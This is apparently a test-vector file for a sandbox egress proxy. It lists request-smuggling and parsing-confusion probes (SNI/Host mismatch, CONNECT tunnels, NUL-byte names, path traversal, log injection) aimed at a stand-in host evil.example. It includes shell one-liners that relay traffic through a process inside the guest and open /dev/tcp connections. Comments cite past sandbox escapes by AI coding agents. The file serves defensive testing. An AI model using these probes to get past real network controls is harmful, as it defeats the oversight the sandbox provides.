/** G3, the reading of requests: whatever can be read in two ways, at the capture proxy and behind it at the host. */

import type { RawProbe, Vector, WebProbe } from "../vector.ts"

const GOOD = "api.anthropic.com"
const EVIL = "{m}.evil.example"
const BOTH = ["agent", "root"] as const
const HOST = `Host: ${EVIL}\r\n`

export const parsingVectors: readonly Vector[] = [
  {
    ...raw(
      "29-sni-allowed-host-denied",
      "an allowed name in the handshake, a denied one in the request",
      "403",
      { to: "https", sni: GOOD, send: [get(EVIL)] },
    ),
    rules: ["egress/sni-mismatch", "egress/no-rule"],
    seenIn: "microsandbox#709, open-computer-use#198, httpjail (domain fronting): SNI true, Host false",
  },
  raw("29-sni-denied-host-allowed", "a denied name in the handshake, an allowed one in the request", "403", {
    to: "https",
    sni: EVIL,
    send: [`GET /{m} HTTP/1.1\r\nHost: ${GOOD}\r\nConnection: close\r\n\r\n`],
  }),
  {
    ...raw("30-connect-allowed-inner-denied", "a tunnel to an allowed host, another name inside", "403", {
      to: "proxy",
      connect: `${GOOD}:443`,
      sni: EVIL,
      send: [get(EVIL)],
    }),
    needs: GOOD,
    seenIn: "github/gh-aw-firewall#8878: the CONNECT target was checked, the inner name was free",
  },
  {
    ...connect("32-connect-address", "CONNECT to an address", "1.1.1.1:443"),
  },
  connect("32-connect-ssh", "CONNECT to an allowed host on port 22", `${GOOD}:22`),
  connect("32-connect-smtp", "CONNECT to an allowed host on port 25", `${GOOD}:25`),
  connect("32-connect-odd-port", "CONNECT to an allowed host on port 8443", `${GOOD}:8443`),
  raw("33-target-differs", "a target that names another host than Host does", "400", {
    to: "proxy",
    send: [`GET http://${GOOD}/{m} HTTP/1.1\r\n${HOST}\r\n`],
  }),
  raw("33-two-hosts", "two Host headers", "400", {
    to: "http",
    send: [`GET /{m} HTTP/1.1\r\nHost: ${GOOD}\r\n${HOST}\r\n`],
  }),
  raw("33-userinfo", "a user and an allowed host before the denied one", "400", {
    to: "http",
    send: [`GET /{m} HTTP/1.1\r\nHost: ${GOOD}:443@${EVIL}\r\n\r\n`],
  }),
  raw("33-host-space", "a space inside Host", "400", {
    to: "http",
    send: [`GET /{m} HTTP/1.1\r\nHost: ${GOOD} ${EVIL}\r\n\r\n`],
  }),
  raw("33-no-host", "no Host at all", "400", { to: "http", send: ["GET /{m} HTTP/1.1\r\n\r\n"] }),
  raw("33-http-09", "HTTP/0.9", "400", { to: "http", send: [`GET http://${EVIL}/{m}\r\n\r\n`] }),
  raw("33-http-10", "HTTP/1.0 with a denied host", "400", {
    to: "http",
    send: [`GET /{m} HTTP/1.0\r\n${HOST}\r\n`],
  }),
  {
    ...web("34-plain-http", "plain HTTP to a denied host", { to: "http", host: EVIL }),
    from: BOTH,
    seenIn: "claude-code#40213: the allow list held for CONNECT only, plain HTTP was free",
  },
  { ...web("34-https", "HTTPS to a denied host", { to: "https", host: EVIL }), from: BOTH },
  {
    ...web("35-relay-in-guest", "a request through a second proxy inside the guest", {
      to: "proxy",
      host: EVIL,
    }),
    how: {
      kind: "shell",
      script:
        'node -e \'const n=require("net");n.createServer(s=>{const c=n.connect(3128,"127.0.0.1");s.pipe(c);c.pipe(s);s.on("error",()=>c.destroy());c.on("error",()=>s.destroy())}).listen(39127,"127.0.0.1");setTimeout(()=>process.exit(),30000)\' & relay=$!; curl -s -m 5 --retry 15 --retry-delay 1 --retry-connrefused -x http://127.0.0.1:39127 http://{m}.evil.example/; code=$?; kill $relay; exit $code',
      // an emulated guest that is busy takes seconds to start the relay
      deadlineMs: 30_000,
    },
    seenIn: "claude-code#87381: a CONNECT relayed through a process in the sandbox was accepted",
  },
  raw(
    "35-socks5-nul",
    "SOCKS5 with a NUL inside the name",
    "400",
    { to: "proxy", send: ["\x05\x01\x00", "\x05\x01\x00\x03\x1f{m}.evil\x00.google.com\x01\xbb"] },
    "Claude Code 2.0.24 to 2.1.89: a SOCKS5 name with NUL passed the suffix check",
  ),
  raw("35-connect-nul", "CONNECT with a NUL inside the name", "400", {
    to: "proxy",
    send: [`CONNECT ${EVIL}\x00.${GOOD}:443 HTTP/1.1\r\n\r\n`],
  }),
  raw("40-large-head", "a head of 80 kB", "400", {
    to: "http",
    send: [
      `GET /{m} HTTP/1.1\r\n${HOST}`,
      ...Array.from({ length: 20 }, (_, at) => `x-${at}: ${"a".repeat(4000)}\r\n`),
      "\r\n",
    ],
  }),
  raw("40-slow-head", "a head a byte at a time", "400", {
    to: "http",
    send: [...`GET /{m} HTTP/1.1\r\n`],
    pauseMs: 100,
    deadlineMs: 2500,
  }),
  raw("40-huge-url", "a target of 70 kB", "400", {
    to: "http",
    send: [`GET /{m}${"a".repeat(70_000)} HTTP/1.1\r\n${HOST}\r\n`],
  }),
  raw("42-h2-prior-knowledge", "HTTP/2 without asking, on port 80", "400", {
    to: "http",
    send: ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
  }),
  raw("42-upgrade-h2c", "an upgrade to HTTP/2", "400", {
    to: "http",
    send: [
      `GET /{m} HTTP/1.1\r\n${HOST}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
    ],
  }),
  raw("44-websocket-denied", "a WebSocket to a denied host", "400", {
    to: "https",
    sni: EVIL,
    send: [upgrade(EVIL)],
  }),
  {
    ...raw("44-websocket-allowed", "a WebSocket to a host that is allowed, but not for that", "400", {
      to: "https",
      sni: GOOD,
      send: [upgrade(GOOD)],
    }),
    needs: GOOD,
  },
  raw("47-ssh-in-443", "SSH on port 443", "REF", {
    to: "https",
    send: [],
    tls: { alpn: "ssh" },
    sni: "ssh.github.com",
  }),
  {
    ...raw("47-not-tls", "what is not TLS on port 443", "REF", {
      to: "http",
      send: ["SSH-2.0-OpenSSH_9.9 {m}\r\n"],
    }),
    how: {
      kind: "shell",
      script: "exec 3<>/dev/tcp/1.1.1.1/443 && printf 'SSH-2.0-{m}\\r\\n' >&3 && timeout 2 head -c 20 <&3",
    },
  },
  raw("47-smtp-in-80", "SMTP on port 80", "400", {
    to: "http",
    send: ["EHLO {m}\r\nMAIL FROM:<a@b.example>\r\n"],
  }),
  raw("48-alpn-h2-only", "a handshake that takes HTTP/2 only", "REF", {
    to: "https",
    sni: EVIL,
    tls: { alpn: "h2" },
    send: [get(EVIL)],
  }),
  raw("48-old-tls", "TLS 1.1", "REF", { to: "https", sni: EVIL, tls: { max: "TLSv1.1" }, send: [get(EVIL)] }),
  web("54-method-override", "another method, asked for in a header", {
    to: "https",
    host: GOOD,
    method: "POST",
    path: "/v1/messages?{m}",
    headers: { "x-http-method-override": "DELETE" },
  }),
  web("54-original-url", "another path, asked for in a header", {
    to: "https",
    host: GOOD,
    method: "POST",
    path: "/v1/messages?{m}",
    headers: { "x-original-url": "/v1/files" },
  }),
  web(
    "54-dot-segments",
    "a path that climbs out of an allowed one",
    { to: "https", host: GOOD, method: "POST", path: "/v1/messages/../files?{m}" },
    "400",
  ),
  web(
    "54-encoded-slash",
    "a path with an encoded slash",
    { to: "https", host: GOOD, method: "POST", path: "/v1/messages%2f..%2ffiles?{m}" },
    "400",
  ),
  {
    ...web("56-gateway-by-proxy", "the gateway's own address, asked of the proxy", {
      to: "proxy",
      host: "10.0.2.100:3128",
    }),
    from: BOTH,
    seenIn: "varlock#995: a broker on the host, as an allowed destination, was open egress",
  },
  {
    ...web("56-proxy-by-proxy", "the proxy itself, asked of the proxy", {
      to: "proxy",
      host: "127.0.0.1:3128",
    }),
    from: BOTH,
  },
  {
    ...web("56-host-socket", "the host service's own interface", {
      to: "proxy",
      host: "host.sock",
      path: "/machines/{m}/attach",
      method: "POST",
    }),
    from: BOTH,
    seenIn: "OpenShell#128, leash 61c46b2, vibeD#45: the sandbox could call the control plane",
  },
  {
    ...raw("57-wpad", "a proxy configuration by WPAD", "403", {
      to: "http",
      send: [`GET /wpad.dat?{m} HTTP/1.1\r\nHost: wpad.corp.example\r\nConnection: close\r\n\r\n`],
    }),
  },
  web(
    "61-log-injection",
    "line ends and escapes for whoever reads the log",
    {
      to: "https",
      host: EVIL,
      path: "/{m}%0d%0aallowed%1b[2J",
      headers: { "user-agent": '\x1b[31m{"status":200}' },
    },
    "400",
  ),
]

function common<From extends Vector["from"]>(
  id: string,
  title: string,
  from: From,
  expected: Vector["expected"],
) {
  return { id, group: "G3" as const, title, from, expected }
}

function raw(
  id: string,
  title: string,
  expected: Vector["expected"],
  how: Omit<RawProbe, "kind">,
  seenIn?: string,
): Vector {
  const vector = { ...common(id, title, ["agent"], expected), how: { kind: "raw", ...how } as const }
  return seenIn === undefined ? vector : { ...vector, seenIn }
}

function web(
  id: string,
  title: string,
  how: Omit<WebProbe, "kind">,
  expected: Vector["expected"] = "403",
): Vector {
  return { ...common(id, title, ["agent"], expected), how: { kind: "web", ...how } }
}

function connect(id: string, title: string, authority: string): Vector {
  return {
    ...common(id, title, ["agent"], "403"),
    how: { kind: "raw", to: "proxy", send: [`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`] },
    authority,
  }
}

function get(host: string): string {
  return `GET /{m} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`
}

function upgrade(host: string): string {
  return `GET /{m} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`
}
